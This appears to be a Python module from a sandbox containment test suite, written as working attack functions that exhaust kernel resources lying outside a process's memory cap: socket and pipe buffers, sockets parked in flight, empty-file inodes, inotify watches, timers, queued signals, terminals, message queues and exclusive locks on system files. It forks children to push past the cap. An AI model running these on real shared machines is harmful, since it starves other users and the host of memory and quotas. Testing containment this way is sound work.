"""Attacks on what the kernel holds or counts outside of any process: buffers, queues, watches, locks, terminals.

What is taken here is gone for others: memory beyond the cap, or a quota that a whole user or the machine shares.
"""

# ruff: noqa: PTH123

from __future__ import annotations

import contextlib
import ctypes
import fcntl
import os
import select
import signal
import socket
import struct
import sys
import tempfile
import time
from collections.abc import Callable, Iterator

from attack import TARGETS, attack, call

INOTIFY_INIT1, INOTIFY_ADD_WATCH, IO_SETUP, TIMER_CREATE, RT_SIGQUEUEINFO, MQ_OPEN = 294, 254, 206, 222, 129, 240
SO_MEMINFO = 55
_MANY = 4_096
_TOO_MANY = 2_048
_PIECE = b"x" * (1 << 20)
_N_CHILDREN = 16
_HOLD_S = 9.0


def _wanted() -> int:
    return min(int(TARGETS["memory_bytes"]) * 5 // 4, 8 << 30)


def _sent(link: socket.socket) -> int:
    """Bytes that a socket takes without anybody reading."""
    for option in (socket.SO_SNDBUF, socket.SO_RCVBUF):
        with contextlib.suppress(OSError):
            link.setsockopt(socket.SOL_SOCKET, option, 1 << 30)
    link.setblocking(False)
    n = 0
    with contextlib.suppress(OSError):
        while n < 64 << 20:
            n += link.send(_PIECE)
    return n


def _held_by(pairs: Iterator[tuple[int, list[socket.socket]]], wanted: int) -> tuple[int, list[socket.socket]]:
    held, n = [], 0
    with contextlib.suppress(OSError):
        for n_bytes, links in pairs:
            held += links
            n += n_bytes
            if n >= wanted:
                break
    return n, held


def _by_many(fill: Callable[[int], tuple[int, object]]) -> str | None:
    """Evidence where children together hold more than the cap, each by `fill` of its share."""
    wanted, n, family = _wanted(), 0, []
    reader, writer = os.pipe()
    try:
        for _ in range(_N_CHILDREN):
            if (pid := os.fork()) == 0:
                signal.alarm(int(_HOLD_S) + 2)
                got, held = fill(wanted)
                os.write(writer, struct.pack("q", got))
                signal.pause()
                os._exit(len(repr(held)) & 1)
            family.append(pid)
            deadline = time.monotonic() + _HOLD_S
            if not select.select([reader], [], [], max(0.0, deadline - time.monotonic()))[0]:
                break
            n += struct.unpack("q", os.read(reader, 8))[0]
            if n >= wanted or os.waitid(os.P_ALL, 0, os.WEXITED | os.WNOHANG | os.WNOWAIT):
                break
    finally:
        for pid in family:
            with contextlib.suppress(OSError):
                os.kill(pid, signal.SIGKILL)
            with contextlib.suppress(OSError):
                os.waitpid(pid, 0)
    return f"{n:,} bytes held by {len(family)} processes" if n >= wanted else None


def _tcp_pairs(family: int, address: str) -> Iterator[tuple[int, list[socket.socket]]]:
    with socket.socket(family, socket.SOCK_STREAM) as server:
        server.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 30)
        server.bind((address, 0))
        server.listen(64)
        while True:
            link = socket.socket(family, socket.SOCK_STREAM)
            link.connect(server.getsockname())
            other, _ = server.accept()
            yield _sent(link), [link, other]


@attack
def fill_buffers_of_tcp() -> str | None:
    """Connections over the loopback whose other end never reads."""
    return _by_many(lambda wanted: _held_by(_tcp_pairs(socket.AF_INET, "127.0.0.1"), wanted))


@attack
def fill_buffers_of_tcp_of_version_6() -> str | None:
    return _by_many(lambda wanted: _held_by(_tcp_pairs(socket.AF_INET6, "::1"), wanted))


def _udp() -> Iterator[tuple[int, list[socket.socket]]]:
    while True:
        link = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        link.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 30)
        link.bind(("127.0.0.1", 0))
        link.setblocking(False)
        with contextlib.suppress(OSError):
            for _ in range(400):
                link.sendto(_PIECE[:16_000], link.getsockname())
        yield struct.unpack("I", link.getsockopt(socket.SOL_SOCKET, SO_MEMINFO, 4))[0], [link]


@attack
def fill_buffers_of_udp() -> str | None:
    return _by_many(lambda wanted: _held_by(_udp(), wanted))


def _local(kind: int) -> Iterator[tuple[int, list[socket.socket]]]:
    while True:
        one, two = socket.socketpair(socket.AF_UNIX, kind)
        yield _sent(one) + _sent(two), [one, two]


@attack
def fill_buffers_of_local_sockets() -> str | None:
    return _by_many(lambda wanted: _held_by(_local(socket.SOCK_STREAM), wanted))


@attack
def fill_buffers_of_sockets_that_are_passed_on() -> str | None:
    """Sockets that lie in another's queue are in no table of descriptors."""

    def pairs() -> Iterator[tuple[int, list[socket.socket]]]:
        keeper, mailbox = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
        keeper.setblocking(False)
        while True:
            one, two = socket.socketpair()
            n = _sent(one) + _sent(two)
            try:
                socket.send_fds(keeper, [b"x"], [one.fileno(), two.fileno()])
            except OSError:
                keeper, mailbox = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
                keeper.setblocking(False)
                socket.send_fds(keeper, [b"x"], [one.fileno(), two.fileno()])
            one.close()
            two.close()
            yield n, [keeper, mailbox]

    return _by_many(lambda wanted: _held_by(pairs(), wanted))


def _pipes(wanted: int) -> tuple[int, list[int]]:
    held, n = [], 0
    with contextlib.suppress(OSError):
        while n < wanted:
            reader, writer = os.pipe()
            held += [reader, writer]
            with contextlib.suppress(OSError):
                fcntl.fcntl(writer, getattr(fcntl, "F_SETPIPE_SZ", 1031), 1 << 20)
            os.set_blocking(writer, False)
            with contextlib.suppress(BlockingIOError):
                while True:
                    n += os.write(writer, _PIECE)
    return n, held


@attack
def fill_pipes() -> str | None:
    return _by_many(_pipes)


@attack
def fill_memory_by_empty_files() -> str | None:
    """Each costs the kernel a kilobyte, and no block of the file system."""
    wanted, n = _wanted() // 1_024, 0
    folder = tempfile.mkdtemp()
    end = time.monotonic() + 9
    try:
        while n < wanted and time.monotonic() < end:
            os.close(os.open(f"{folder}/{n}", os.O_CREAT | os.O_WRONLY))
            n += 1
    except OSError:
        return None
    finally:
        for i in range(n):
            os.unlink(f"{folder}/{i}")  # noqa: PTH108
        os.rmdir(folder)  # noqa: PTH106
    return f"{n:,} files" if n >= wanted else None


@attack
def watch_files_of_the_machine() -> str | None:
    """Tells when others use a file, and takes one of 128 that a user has."""
    handle = call(INOTIFY_INIT1, 0)
    if handle < 0:
        return None
    return f"watch {call(INOTIFY_ADD_WATCH, handle, sys.executable.encode(), 0xFFF)} on {sys.executable}"


@attack
def asynchronous_requests() -> str | None:
    """65,536 for all of the machine, by default."""
    context = ctypes.c_ulong(0)
    return "a queue of requests" if call(IO_SETUP, 1_024, ctypes.byref(context)) == 0 else None


@attack
def timers_without_end() -> str | None:
    event = (ctypes.c_char * 64)()
    struct.pack_into("qii", event, 0, 0, 0, 1)  # SIGEV_NONE
    made, n = ctypes.c_int(), 0
    while n < _MANY and call(TIMER_CREATE, 1, event, ctypes.byref(made)) == 0:
        n += 1
    return f"{n} timers" if n > _TOO_MANY else None


@attack
def signals_that_wait() -> str | None:
    signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGRTMIN})
    about = (ctypes.c_char * 128)()
    struct.pack_into("iii", about, 0, signal.SIGRTMIN, 0, -1)  # SI_QUEUE
    n = 0
    while n < _MANY and call(RT_SIGQUEUEINFO, os.getpid(), int(signal.SIGRTMIN), about) == 0:
        n += 1
    return f"{n} signals wait" if n > _TOO_MANY else None


@attack
def terminals_of_its_own() -> str | None:
    """4,096 for all of the machine."""
    return "terminals {} and {}".format(*os.openpty())


@attack
def message_queue() -> str | None:
    handle = call(MQ_OPEN, b"attack", os.O_CREAT | os.O_RDWR, 0o600, None)
    return f"queue {handle}" if handle >= 0 else None


@attack
def lock_on_files_of_the_machine() -> str | None:
    """Whoever wants the same lock outside waits for us, as long as we run."""
    with open(os.__file__, "rb") as stream:
        fcntl.flock(stream, fcntl.LOCK_EX | fcntl.LOCK_NB)
        return f"locks {os.__file__}"
